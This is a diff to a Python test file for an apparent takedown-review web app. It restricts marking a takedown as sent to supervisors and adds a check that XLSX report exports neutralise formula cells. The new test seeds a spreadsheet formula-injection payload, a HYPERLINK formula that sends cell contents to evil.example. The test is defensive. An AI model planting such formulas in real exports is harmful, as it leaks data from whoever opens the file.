@@ -70,7 +70,10 @@ def test_rest_flow(
     )
     assert reviewer.get(f"/api/v1/takedowns/{ref}/export/odt").status_code == 422
 
-    sent = reviewer.post(
+    # sending in the office's name is a supervisor's act (issue 17, finding 2)
+    refused = reviewer.post(f"/api/v1/takedowns/{ref}/status", json={"status": "sent"})
+    assert refused.status_code == 403 and "supervisor" in refused.json()["detail"]
+    sent = supervisor.post(
         f"/api/v1/takedowns/{ref}/status", json={"status": "sent", "note": "已通过IPP提交"}
     )
     assert sent.json()["status"] == "sent"
@@ -91,7 +94,7 @@ def test_rest_flow(
     assert trail == [
         ("reviewer", "takedown.draft"),
         ("supervisor", "takedown.approved"),
-        ("reviewer", "takedown.sent"),
+        ("supervisor", "takedown.sent"),
     ]
 
     report = reviewer.get("/api/v1/takedowns/reports/2026-03", params={"format": "html"})
@@ -132,3 +135,17 @@ def test_ui_pages_and_forms(reviewer: TestClient, client: TestClient, seed, png:
         and "<style>" not in monthly.text
     )
     assert client.get("/takedowns/report", params={"month": "2026-3"}).status_code == 422
+
+
+def test_monthly_report_xlsx_from_the_api_has_no_formula_cells(reviewer: TestClient, seed) -> None:  # type: ignore[no-untyped-def]
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    seed.listing("标题", "包授权", platform="taobao", status=ListingStatus.confirmed, region=evil)
+    r = reviewer.get("/api/v1/takedowns/reports/2026-03", params={"format": "xlsx"})
+    assert r.status_code == 200, r.text
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "'" + evil in {c.value for c in cells}
